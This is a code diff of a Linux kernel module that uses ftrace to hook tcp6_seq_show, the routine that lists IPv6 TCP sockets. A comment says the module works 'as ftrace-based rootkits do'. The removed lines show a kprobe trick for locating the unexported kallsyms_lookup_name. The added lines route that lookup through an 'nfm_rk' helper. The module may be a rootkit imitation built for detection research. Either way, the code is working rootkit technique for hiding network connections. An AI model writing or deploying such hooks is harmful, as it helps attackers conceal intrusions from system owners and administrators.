@@ -2,11 +2,12 @@
 // with ftrace (ftrace_set_filter_ip + register_ftrace_function, the handler moving
 // the instruction pointer to its own filter), as ftrace-based rootkits do.
 #include <linux/ftrace.h>
-#include <linux/kprobes.h>
 #include <linux/module.h>
 #include <linux/seq_file.h>
 #include <linux/version.h>
 #include <net/sock.h>
+
+#include "nfm_rk.h"
 
 static unsigned long target;
 static int (*original_show)(struct seq_file*, void*);
@@ -43,13 +44,8 @@ static struct ftrace_ops ops = {
 };
 
 static int __init hook_init(void) {
-  struct kprobe kp = {.symbol_name = "kallsyms_lookup_name"};
-  unsigned long (*lookup)(const char*);
   int err;
-  if (register_kprobe(&kp) < 0) return -ENOENT;
-  lookup = (void*)kp.addr;
-  unregister_kprobe(&kp);
-  target = lookup("tcp6_seq_show");
+  target = nfm_rk_lookup("tcp6_seq_show");
   if (!target) return -ENOENT;
   original_show = (void*)target;
   err = ftrace_set_filter_ip(&ops, target, 0, 0);
